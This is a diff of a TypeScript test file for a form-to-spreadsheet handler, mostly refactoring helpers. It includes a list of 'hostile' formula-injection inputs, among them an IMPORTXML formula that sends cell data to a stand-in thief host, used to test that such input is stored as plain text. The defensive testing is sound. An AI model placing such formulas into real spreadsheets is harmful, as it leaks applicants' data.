@@ -5,15 +5,12 @@ import { sampleMessage } from '../testing/sample-message.ts';
 import { fieldNames } from '../domain/forms/enrolment/schema.ts';
 import { directConnection, Google } from './testing/google.ts';
 import { personAt } from './testing/person.ts';
-import { deliver, post, runScript, scriptSource } from './testing/run-script.ts';
+import { deliver, forwarded, post, runScript, scriptSource } from './testing/run-script.ts';
+import { sheetWith } from './testing/run-script.ts';
 import { recordsOf, rowsOf } from './testing/sheet.ts';
 import { applyWrite } from './testing/workbook.ts';
 
-const forwarded = {
-  ...sampleApplication,
-  reference: '4KX7-9QMD',
-  submittedAt: '2025-01-31T09:05:00.000Z',
-};
+const columns = ['reference', 'submittedAt', 'dueAt', 'answered', ...fieldNames, 'key'];
 const cells = Object.entries(forwarded).map(([name, answer]) => [name, [answer].flat().join('; ')]);
 const asCells = Object.fromEntries(cells) as Record<string, string>;
 
@@ -37,13 +34,9 @@ describe('a form that arrives', () => {
   test('is a row under headings, and only then answered with success', () => {
     const google = new Google();
     expect(deliver(google, forwarded)).toEqual({ success: true, reference: '4KX7-9QMD' });
-    expect(rowsOf(google, 'Applications')[0]).toEqual([
-      ...['reference', 'submittedAt', 'dueAt', 'answered', ...fieldNames, 'key'],
-    ]);
+    expect(rowsOf(google)[0]).toEqual(columns);
     const dueAt = new Date('2025-02-02T09:05:00.000Z');
-    expect(recordsOf(google, 'Applications')).toEqual([
-      { ...asCells, dueAt, answered: '', key: '' },
-    ]);
+    expect(recordsOf(google)).toEqual([{ ...asCells, dueAt, answered: '', key: '' }]);
     expect(google.workbook.tabs[0]!.frozenRows).toBe(1);
   });
 
@@ -57,13 +50,9 @@ describe('a form that arrives', () => {
   });
 
   test('is told apart by its fields: a contact message has a tab of its own', () => {
-    const google = new Google();
-    expect(deliver(google, { ...sampleMessage, reference: '2222-3333' })).toMatchObject({
-      success: true,
-    });
-    expect(recordsOf(google, 'Messages')).toMatchObject([
-      { ...sampleMessage, reference: '2222-3333' },
-    ]);
+    const sent = { ...sampleMessage, reference: '2222-3333' };
+    const google = sheetWith(sent);
+    expect(recordsOf(google, 'Messages')).toMatchObject([sent]);
     expect(google.workbook.tabs).toHaveLength(1);
   });
 
@@ -71,19 +60,17 @@ describe('a form that arrives', () => {
     const google = new Google();
     const selectedCourses = Array.from({ length: 100 }, (_, at) => `${at}`.padEnd(200, 'x'));
     expect(deliver(google, { ...forwarded, selectedCourses })).toMatchObject({ success: true });
-    expect(recordsOf(google, 'Applications')[0]!.selectedCourses).toBe(selectedCourses.join('; '));
+    expect(recordsOf(google)[0]!.selectedCourses).toBe(selectedCourses.join('; '));
     const tooMany = { ...forwarded, reference: 'A', selectedCourses: [...selectedCourses, 'more'] };
     expect(deliver(google, tooMany).success).toBe(false);
   });
 });
 
 test('the same answers under another reference, or other answers, make another row', () => {
-  const google = new Google();
-  deliver(google, forwarded);
-  deliver(google, { ...forwarded, reference: '2222-3333' });
+  const google = sheetWith(forwarded, { ...forwarded, reference: '2222-3333' });
   post(google, sampleApplication);
   post(google, { ...sampleApplication, city: 'Ely' });
-  expect(recordsOf(google, 'Applications')).toHaveLength(4);
+  expect(recordsOf(google)).toHaveLength(4);
 });
 
 describe('a sheet that the staff have changed', () => {
@@ -93,13 +80,11 @@ describe('a sheet that the staff have changed', () => {
       ['yes', 'Bath', 'Ann Earlier', 'likes mornings'],
     ]);
     expect(deliver(google, forwarded)).toMatchObject({ success: true });
-    const [headings, earlier, added] = rowsOf(google, 'Applications');
+    const [headings, earlier, added] = rowsOf(google);
     expect(headings!.slice(0, 6)).toEqual([
       ...['Called?', 'City', 'fullName', 'Notes', 'reference', 'submittedAt'],
     ]);
-    const known = ['reference', 'submittedAt', 'dueAt', 'answered', ...fieldNames, 'key'].filter(
-      (name) => name !== 'city',
-    );
+    const known = columns.filter((name) => name !== 'city');
     expect([...headings!].sort()).toEqual(['Called?', 'City', 'Notes', ...known].sort());
     expect(earlier!.slice(0, 4)).toEqual(['yes', 'Bath', 'Ann Earlier', 'likes mornings']);
     expect(added!.slice(0, 4)).toEqual(['', 'Leeds', forwarded.fullName, '']);
@@ -127,7 +112,7 @@ describe('a sheet that the staff have changed', () => {
       expect(cells.get('2,2')).toEqual({ value: '01', formula: '', format: '@' });
       expect(cells.get('2,3')).toEqual({ value: "'=A1", formula: '', format: '@' });
       expect(deliver(google, form).success).toBe(true);
-      expect(recordsOf(google, 'Applications')).toHaveLength(1);
+      expect(recordsOf(google)).toHaveLength(1);
     });
 
     test('and knows a row whose apostrophe is seen', () => {
@@ -135,16 +120,13 @@ describe('a sheet that the staff have changed', () => {
       deliver(google, forwarded);
       google.workbook.tabs[0]!.cells.get('2,4')!.value = `'${forwarded.reference}`;
       expect(deliver(google, forwarded).success).toBe(true);
-      expect(recordsOf(google, 'Applications')).toHaveLength(1);
+      expect(recordsOf(google)).toHaveLength(1);
     });
   });
 
   test('may have other answers meanwhile, and another form that names the reference', () => {
-    const google = new Google();
-    deliver(google, forwarded);
-    const person = personAt(google, 'Applications');
-    const cityAt = rowsOf(google, 'Applications')[0]!.indexOf('city') + 1;
-    person.types(2, cityAt, 'Leeds, Yorkshire');
+    const google = sheetWith(forwarded);
+    personAt(google).types(2, rowsOf(google)[0]!.indexOf('city') + 1, 'Leeds, Yorkshire');
     const about = {
       ...forwarded,
       ...{ reference: '2222-3333', submittedAt: '2025-02-01T09:05:00.000Z' },
@@ -153,7 +135,7 @@ describe('a sheet that the staff have changed', () => {
     expect(deliver(google, about).success).toBe(true);
     expect(deliver(google, forwarded).success).toBe(true);
     expect(deliver(google, { ...forwarded, reference: '3333-4444' }).success).toBe(true);
-    expect(recordsOf(google, 'Applications').map(({ reference }) => reference)).toEqual([
+    expect(recordsOf(google).map(({ reference }) => reference)).toEqual([
       ...[forwarded.reference, '2222-3333', '3333-4444'],
     ]);
   });
@@ -162,38 +144,22 @@ describe('a sheet that the staff have changed', () => {
     const google = sheetOfStaff([['Called?', 'Notes']]);
     Object.assign(google.workbook.tabs[0]!, { rows: 1, columns: 2 });
     expect(deliver(google, forwarded)).toMatchObject({ success: true });
-    expect(recordsOf(google, 'Applications')).toMatchObject([{ ...asCells, 'Called?': '' }]);
+    expect(recordsOf(google)).toMatchObject([{ ...asCells, 'Called?': '' }]);
   });
 });
 
 describe('what was typed', () => {
   const hostile = [
-    '=A2&B2',
-    '=IMPORTXML("https://thief.example/?"&C2,"//a")',
-    '+A2',
-    '-A2',
-    '@A2',
-    '\t=A2',
-    '\r=A2',
-    "'=A2",
-    '01632960001',
-    '+447700900123',
-    '1/2',
-    '2025-03-01',
-    'May 2025',
-    'TRUE',
-    '10%',
-    '£100',
-    '1e5',
-    "''quoted''",
-    '  ',
+    ...['=A2&B2', '=IMPORTXML("https://thief.example/?"&C2,"//a")', '+A2', '-A2', '@A2'],
+    ...['\t=A2', '\r=A2', "'=A2", '01632960001', '+447700900123', '1/2', '2025-03-01'],
+    ...['May 2025', 'TRUE', '10%', '£100', '1e5', "''quoted''", '  '],
   ];
 
   test.each(hostile)('stands in its cell letter for letter: %j', (typed) => {
     const google = new Google();
     const form = { ...forwarded, businessName: typed, additionalRequirements: `${typed}\n=A2` };
     expect(deliver(google, form)).toMatchObject({ success: true });
-    expect(recordsOf(google, 'Applications')[0]).toMatchObject({
+    expect(recordsOf(google)[0]).toMatchObject({
       businessName: typed.trim(),
       additionalRequirements: `${typed}\n=A2`.trim(),
     });
@@ -207,7 +173,7 @@ describe('what was typed', () => {
     expect(deliver(google, form, open).error).toMatch(/had become a formula/);
     expect(deliver(google, form, open).success).toBe(true);
     expect([...google.workbook.tabs[0]!.cells.values()].some(({ formula }) => formula)).toBe(false);
-    expect(recordsOf(google, 'Applications')).toMatchObject([
+    expect(recordsOf(google)).toMatchObject([
       { reference: forwarded.reference, businessName: '(A formula was taken out here.)' },
     ]);
   });
@@ -237,7 +203,7 @@ describe('a failure is answered as one', () => {
     expect(deliver(google, forwarded).success).toBe(false);
     google.fault = () => undefined;
     expect(deliver(google, forwarded).success).toBe(true);
-    expect(recordsOf(google, 'Applications')).toHaveLength(1);
+    expect(recordsOf(google)).toHaveLength(1);
   });
 
   test('when the lock is held for too long', () => {
@@ -254,7 +220,7 @@ describe('a failure is answered as one', () => {
     const google = new Google();
     google.fault = (called) => (called === 'Lock.releaseLock' ? 'Surprise' : undefined);
     expect(deliver(google, forwarded)).toMatchObject({ success: true });
-    expect(recordsOf(google, 'Applications')).toHaveLength(1);
+    expect(recordsOf(google)).toHaveLength(1);
   });
 });
 
